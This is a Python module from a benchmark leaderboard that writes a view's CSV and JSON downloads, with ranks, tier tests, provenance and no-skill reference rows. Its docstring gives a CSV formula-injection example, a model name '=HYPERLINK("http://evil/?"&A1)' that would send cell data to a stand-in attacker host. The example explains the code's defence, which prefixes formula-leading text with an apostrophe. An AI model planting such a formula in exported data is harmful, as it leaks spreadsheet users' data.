"""A view's downloadable records (CSV and JSON): one record per model, exact fractions,
tiers and tests, and where every figure comes from; and the no-skill reference row the
page shows, in its place.

A record is a model line (:mod:`.lines`): every figure from the one row named in
``system_id`` and ``source``, picked from the model's rows by the stated rule;
``other_sources`` names the model's other rows in the view, and JSON's ``others`` gives
their figures, cell by cell. A view whose columns have a no-skill value gets a record of
``"provenance": "reference"`` holding them (:mod:`.references`). For the
tiered column every tested figure carries what the README promises: the raw and the
Holm-adjusted p-value of its test against the best verified row (raised to the smallest
p-value the test resolves), the test's name, the mean difference from it, the standardized
effect size, and the row's simultaneous 95% rank interval; each field holds one statistic
whatever the view's test, as `leaderboard compare` prints them: the mean difference's 95%
interval where the test's statistic is that mean (``diff_ci_*``: the bootstrap's, DeLong's
for AUROC), and, for Wilcoxon's test (p-MRR), whose statistic is not the mean, the
Hodges-Lehmann shift with its own interval instead (``hl_*``). Every cell says how its
figure was obtained (``basis``): the column's convention, or a reported row's own printed
average ("published"), which the page marks where it is not that mean, and on which data
revision it was scored where that is not the one the registry pins (``off_pin_revision``),
and what the page's marks after its figure say (:data:`MARK_FIELDS`).
The view document says what
the test resamples (its unit and how many), its reproducibility threshold and its minimum
detectable effect (verdicts.MDE_NOTE).

CSV is opened by spreadsheets, which run a cell starting with ``=``, ``+``, ``-`` or ``@``
(and, in some, a tab or carriage return) as a formula: a model named
``=HYPERLINK("http://evil/?"&A1)`` would become a live link. Text cells starting so get a
leading apostrophe (OWASP's advice); numeric cells are written as numbers and never
touched, so a negative p-MRR stays a number.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Mapping, Sequence

from leaderboard.benchmarks.views import Column
from leaderboard.submission.results import off_pin_revisions

from .references import REFERENCE_KEY, reference_at, reference_name
from .rows import Row
from .tables import ViewTable, off_pin_of
from .verdicts import MDE_NOTE, STATISTIC_FIELDS, TIER_TEXT, TierInfo, tier_statistics

STATISTIC_NOTE = (
    "One record per model, every figure from one row (system_id, source): a verified "
    "submission first (one scored on the data revision the registry pins before one "
    "scored on another, then the best on the tested column, the best verified row before "
    "one tied with it up to the reproducibility threshold above it), else a reported row giving the "
    "sort column, by source: the benchmark's own (its paper; on PI-Indic's full set the "
    "authors' result files, then the paper), another paper, the PI-Indic authors' result "
    "files, then MTEB's results (newest mteb first). other_sources names the model's other "
    "rows in this table and JSON's 'others' gives their figures; they are never mixed in. "
    "The record of provenance 'reference' is the no-skill reference row. "
    "Each column's convention says what its number is, and 'means' says it in words (one "
    "task's mean over its queries, or its figure over all its pairs where 'means' says so; "
    "or the mean of the tasks' figures as the benchmark's paper averages them); each "
    "cell's basis says how its figure was obtained: the convention, or 'published', a "
    "reported row's own average as its source prints it, which need not be that mean. "
    "A cell's off_pin_revision names the data revision (repository@commit) its figure was "
    "scored on where that is not the one the registry pins now (the pin moved since): "
    "such a figure is on other data than the rest, and is tested against no row (null: "
    "on the pinned revision, or a reported figure). "
    "A cell's one_class, training_overlap and printed_average_differs say what the "
    "page's marks after its figure say (null: no figure): one_class is true where the "
    "figure is of a measure a classifier answering one class for every pair wins without "
    "skill (ECE), and the row's classifier does (the page's *); training_overlap, where "
    "the model's declared training data shares a source collection or the source of its "
    "instructions with the view's benchmark (†), names the benchmark, the shared source "
    "tags (collections, instructions) and what they are (shares), the training data's "
    "statement and who says so (source); the figure is shown and ranked as any other, and "
    "a model whose training data is not disclosed has null; printed_average_differs, "
    "where a reported row's printed average (basis 'published') is not the mean of its own "
    "figures of the column's tasks beyond rounding (‡), is that mean. "
    "rank is the line's place in the view's default order among the ranked lines, on the "
    "sort column (reported rows included; the best verified line first of the tested "
    "lines, those it passes being within the reproducibility threshold of it, tied with "
    "it); it is null for the no-skill reference, for a "
    "line without a figure in the sort column, for a line whose figure there was "
    "scored on another data revision than the pin (its off_pin_revision for that column), "
    "and for a reported line where the view's note says the sort column's reported "
    "figures are not on the verified ones' convention (while a verified line has a "
    "figure there): "
    "a rank would order figures measured on other data as if comparable, so such a line "
    "is unranked and comes after every ranked line, ordered among the unranked by its own "
    "figure (format followboard-download/3 and earlier ranked an off-pin line with the "
    "rest). "
    "Tests against "
    "the tiered column's best verified row (the leader among verified submissions; "
    "reported rows are never tested) take one value per independently sampled unit "
    "('test': its unit and n_units): p_value raw, raised to p_floor, the smallest p-value "
    "the test resolves (a value at p_floor means at most p_floor); p_adjusted Holm's "
    "within the view of those raised p-values, and p_adjusted_bound true where it rests on "
    "one at p_floor, so that it too means at most p_adjusted (printed as ≤); test names the test; diff_vs_best_verified = mean(system - best) "
    "over the units, [diff_ci_low, diff_ci_high] its 95% interval where the test's "
    "statistic is that mean (the bootstrap's for the randomization test, DeLong's for "
    "AUROC; null for Wilcoxon's); for Wilcoxon's test (p-MRR), whose statistic is not the "
    "mean, hl_shift is the Hodges-Lehmann shift (the median of the Walsh averages of the "
    "units' non-zero differences, as the test drops zeros) and [hl_ci_low, hl_ci_high] its "
    "95% interval (the shifts the signed-rank test does not reject), null for other tests; effect_size = the difference over "
    "the standard deviation of the units' differences. Every such interval is its "
    "comparison's own, not adjusted for the view's other comparisons; the tier follows "
    "p_adjusted and the side of the test's own statistic, so a tied row's interval can "
    "leave 0 out, where p_adjusted is at least 0.05 or, for wilcoxon, on the row's own "
    "side while diff_vs_best_verified is behind (ahead on most units, far behind on a "
    "few), and a row below's can hold 0 (the page marks such an interval "
    "§, and leaderboard compare calls such a pair inconclusive). rank_interval = [best, worst] rank "
    "among the tested rows, simultaneous 95% (the rows whose interval reaches 1 are "
    "'tied_for_first'); differences below the reproducibility threshold are ties. "
    "'reference' gives each column's no-skill value.")
# The layout of a download's records (which fields a record has and what each holds),
# named in each JSON download: the number moves when a field changes its meaning or name,
# or is added (2: the test's estimate, ci_low and ci_high, which held the mean difference's
# interval for some views and the Hodges-Lehmann shift's for others, became diff_ci_* and
# hl_*; 3: each cell's off_pin_revision; 4: rank is null for a line whose figure in the
# sort column was scored off the pin, which format 3 numbered in the order with the rest;
# 5: p_adjusted is Holm's of the p-values raised to p_floor, and p_adjusted_bound says
# where it is an upper bound; 6: each cell's one_class, training_overlap and
# printed_average_differs, what the page's marks *, † and ‡ after its figure say).
DOWNLOAD_FORMAT = "followboard-download/6"
# The tier, then the statistics every surface names alike (verdicts.STATISTIC_FIELDS), the
# mean difference from the best verified row before its interval.
DIFF_FIELD = "diff_vs_best_verified"
_DIFF_AT = STATISTIC_FIELDS.index("diff_ci_low")
TEST_FIELDS = ("tier", *STATISTIC_FIELDS[:_DIFF_AT], DIFF_FIELD, *STATISTIC_FIELDS[_DIFF_AT:])
# A cell's field saying how its figure was obtained (:data:`.statistic.Basis`): its column's
# convention, or, for a reported row whose source prints its own average of the column's
# tasks, "published" (the figure as printed, which need not be the mean the column's
# convention says).
BASIS = "basis"
# A cell's field naming the data revision its figure was scored on where that is another
# than the one the registry pins now (after a revision bump; :func:`.tables.off_pin_of`
# decides, as it does for the tables' tests): such a figure is on other data than the
# rest, and tested against no row. None: on the pinned revision, or no verified figure.
OFF_PIN = "off_pin_revision"
# A cell's fields saying what the page's marks after its figure say
# (:func:`leaderboard.publish.site.figure_marks.mark_fields` fills them, from the functions
# the marks come from; null where the cell has no figure): ONE_CLASS, whether the figure
# is of a measure a classifier answering one class for every pair wins without skill, and
# it does (the page's *); TRAINING_OVERLAP, what the model's declared training data shares
# with the view's benchmark and who says so (†; null: nothing, or nothing declared);
# PRINTED_AVERAGE, the mean of a reported row's own figures of the column's tasks where its
# printed average, the cell's figure, is not that mean (‡; null: it is, or the figure is
# no printed average).
ONE_CLASS = "one_class"
TRAINING_OVERLAP = "training_overlap"
PRINTED_AVERAGE = "printed_average_differs"
MARK_FIELDS = (ONE_CLASS, TRAINING_OVERLAP, PRINTED_AVERAGE)
# What each holds, as the export's standings schema says it.
MARK_FIELD_TEXT = {
    ONE_CLASS: "true where the figure is of a measure a classifier answering one class for "
               "every pair wins without skill (ECE) and the row's classifier does, which "
               "the site marks * (null: no figure)",
    TRAINING_OVERLAP: "JSON text (an object in a view's JSON download), {benchmark, "
                      "collections, instructions, shares, statement, source}: "
                      "where the model's declared training data shares a source collection "
                      "or the source of its instructions with the view's benchmark (the "
                      "site marks it †), the shared source tags, what they are, the "
                      "training data's statement and who says so (null: nothing shared, "
                      "nothing declared, or no figure)",
    PRINTED_AVERAGE: "the mean of a reported row's own figures of the column's tasks where "
                     "its printed average (basis published), the cell's figure, is not "
                     "that mean beyond rounding, which the site marks ‡ (null: it is, or "
                     "the figure is no printed average)"}
# Those of the test fields that are text (the rest are numbers).
TEST_TEXT_FIELDS = frozenset({"tier", "test"})
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def view_records(table: ViewTable, source_of: Callable[[Row], str],
                 marks_of: Callable[[Row, int], Mapping[str, object]]
                 ) -> tuple[list[str], list[dict[str, object]]]:
    """Header and records of a view's download, one per model line; ``source_of`` says
    where a row comes from, ``marks_of`` what the marks after a row's figure in a column
    say (its :data:`MARK_FIELDS`)."""
    cols = table.view.columns
    header = ["rank", "rank_interval", "model_id", "model", "provenance", "model_type",
              "parameters", "instruction_trained", "system_id", "source"] + [c.id for c in cols]
    header.append("other_sources")
    header += [f"{c.id} {BASIS}" for c in cols]
    header += [f"{c.id} {OFF_PIN}" for c in cols]
    header += [f"{c.id} {f}" for f in MARK_FIELDS for c in cols]
    tiered = sorted(table.tiers)
    for i in tiered:
        header += [f"{cols[i].id} {f}" for f in TEST_FIELDS]
    ranks = table.line_ranks()
    records = []
    tier_col = table.view.tiered_column
    for line in table.lines:
        rec_ = line.record
        main = line.source
        ranked = line.cells[tier_col].tier if tier_col is not None else None
        rec: dict[str, object] = {
            "rank": ranks[line.key],
            "rank_interval": ranked.rank_interval if ranked is not None else None,
            "model_id": line.key, "model": line.name,
            "provenance": "verified" if line.verified else "reported",
            "model_type": rec_.type, "parameters": rec_.parameters,
            "instruction_trained": rec_.instruction_trained,
            "system_id": main.system.system_id, "source": source_of(main),
            "other_sources": "; ".join(r.system.system_id for r in line.others) or None,
        }
        others: dict[str, list[dict[str, object]]] = {}
        for i, col in enumerate(cols):
            cell = line.cells[i]
            rec[col.id] = cell.value
            rec[f"{col.id} {BASIS}"] = table.basis(cell.row, i)
            rec[f"{col.id} {OFF_PIN}"] = cell_off_pin_revisions(cell.row, col)
            marks = (marks_of(cell.row, i) if cell.row is not None and cell.value is not None
                     else {})
            for name in MARK_FIELDS:
                rec[f"{col.id} {name}"] = marks.get(name)
            if cell.others:
                others[col.id] = [{"system_id": r.system.system_id, "value": v,
                                   BASIS: table.basis(r, i), OFF_PIN: cell_off_pin_revisions(r, col),
                                   "source": source_of(r)}
                                  for r, v in cell.others]
        for i in tiered:
            for name, value in zip(TEST_FIELDS, tested_fields(line.cells[i].tier)):
                rec[f"{cols[i].id} {name}"] = value
        if others:
            rec["others"] = others  # JSON only: not in the CSV header
        records.append(rec)
    if any(v is not None for v in table.references):
        records.insert(reference_at(table.view, table.lines, table.references),
                       reference_record(table))
    return header, records


def cell_off_pin_revisions(row: Row | None, column: Column) -> str | None:
    """A cell's :data:`OFF_PIN`: the data revisions ``row`` was scored on for ``column``'s
    tasks where they are not the ones the registry pins (None: on the pin, or no row)."""
    return off_pin_revisions(off_pin_of(row, column)) or None if row is not None else None


def tested_fields(info: TierInfo | None) -> tuple[object, ...]:
    """A tested cell's :data:`TEST_FIELDS`: its tier, its mean difference from the best
    verified row and its test's statistics (:func:`~.verdicts.tier_statistics`), None
    where a field does not apply."""
    if info is None:
        return (None,) * len(TEST_FIELDS)
    fields = {"tier": TIER_TEXT.get(info.tier, info.tier), DIFF_FIELD: info.effect,
              **tier_statistics(info)}
    return tuple(fields[name] for name in TEST_FIELDS)


def reference_record(table: ViewTable) -> dict[str, object]:
    """The no-skill reference row as a record: each column's reference value, nothing
    tested; its source says what it is."""
    view = table.view
    rec: dict[str, object] = {
        "rank": None, "rank_interval": None, "model_id": REFERENCE_KEY,
        "model": reference_name(view),
        "provenance": "reference", "model_type": None, "parameters": None,
        "instruction_trained": None, "system_id": None,
        "source": "no-skill reference: what a system without skill scores in each column",
        "other_sources": None}
    for col, value in zip(view.columns, table.references):
        rec[col.id] = value
    return rec


def column_document(column: Column, reference: float | None) -> dict[str, object]:
    """What a column is, as a view's JSON download and the export's views table say it:
    its tasks, the metric it takes of each, its group, how it combines them (its declared
    convention, in words too) and its no-skill reference (None: none)."""
    return {"id": column.id, "label": column.label, "metric": column.metric,
            "tasks": list(column.tasks),
            # the metric taken of each task (FollowIR's Score: MAP@1000 or nDCG@5, where
            # metric says "headline")
            "task_metrics": [m for _, m in column.parts], "group": column.group,
            "higher_is_better": column.higher_is_better, "average": column.average,
            "convention": column.convention, "means": column.convention_text,
            "reference": reference}


def view_document(table: ViewTable, records: list[dict[str, object]]) -> dict:
    """A view's JSON download: what each column is (its tasks, the metric it takes of
    each, its declared convention, its no-skill reference), what the tiered column's test
    is (its unit and count, the smallest p-value and difference it resolves, the rows tied
    for first), then the records."""
    view = table.view
    doc = {
        "format": DOWNLOAD_FORMAT,
        "view": {"id": view.id, "title": view.title, "note": view.note,
                 "columns": [column_document(c, ref) for c, ref in zip(
                     view.columns, table.references or [None] * len(view.columns))]},
        "scale": "fractions (the site shows x100)",
        "statistic": STATISTIC_NOTE,
    }
    test = table.tests.get(view.tiered_column) if view.tiered_column is not None else None
    if test is not None:
        doc["test"] = {
            "column": view.columns[view.tiered_column].id, "test": test.test,
            "interval": test.interval, "unit": test.unit, "unit_is": test.unit_holds,
            "n_units": test.n_units, "p_floor": test.p_floor,
            "reproducibility_threshold": test.threshold,
            "minimum_detectable_effect": test.mde,
            "minimum_detectable_effect_is": MDE_NOTE,
            "rank_critical_value": test.rank_critical,
            "tied_for_first": [r["model_id"] for r in records
                               if isinstance(r.get("rank_interval"), list)
                               and r["rank_interval"][0] == 1]}
    doc["rows"] = records
    return doc


def csv_cell(value: object) -> str:
    """One CSV cell: numbers exact (shortest round-trip), text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, int):
        return str(value)
    # a list (rank_interval) or an object (training_overlap) as JSON, as the Parquet holds it
    text = (json.dumps(value, ensure_ascii=False, allow_nan=False)
            if isinstance(value, (list, dict)) else str(value))
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(header: Sequence[str], records: Sequence[Mapping[str, object]]) -> str:
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow([csv_cell(h) for h in header])
    for rec in records:
        writer.writerow([csv_cell(rec.get(h)) for h in header])
    return buf.getvalue()
